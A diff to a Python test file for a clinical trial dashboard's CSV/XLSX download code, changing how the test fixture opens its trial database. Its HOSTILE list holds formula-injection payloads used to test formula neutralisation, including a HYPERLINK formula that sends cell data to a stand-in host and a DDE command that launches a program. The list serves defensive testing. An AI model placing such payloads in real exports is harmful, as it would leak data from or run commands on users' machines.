@@ -8,7 +8,6 @@ from __future__ import annotations
 
 import io
 
-import duckdb
 import openpyxl
 import pandas as pd
 import pytest
@@ -18,6 +17,7 @@ from dashboard.access.trial_view import TrialView
 from dashboard.domain.subject_filter import SubjectFilter
 from dashboard.ui.context import PageContext
 from dashboard.ui.downloads import neutralise_formulas, table_csv, table_xlsx
+from tests.conftest import connect_unblinded
 from tests.pages.apptest_helpers import ROLE_VIEWERS
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)",
@@ -26,7 +26,7 @@ HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!
 
 @pytest.fixture
 def ctx(trial_db, tmp_path):
-    con = duckdb.connect(str(trial_db), read_only=True)
+    con = connect_unblinded(trial_db)
     yield PageContext(TrialView(con, ROLE_VIEWERS["investigator"], trial_db), SubjectFilter(), AuditLog(tmp_path / "a.jsonl"))
     con.close()
 
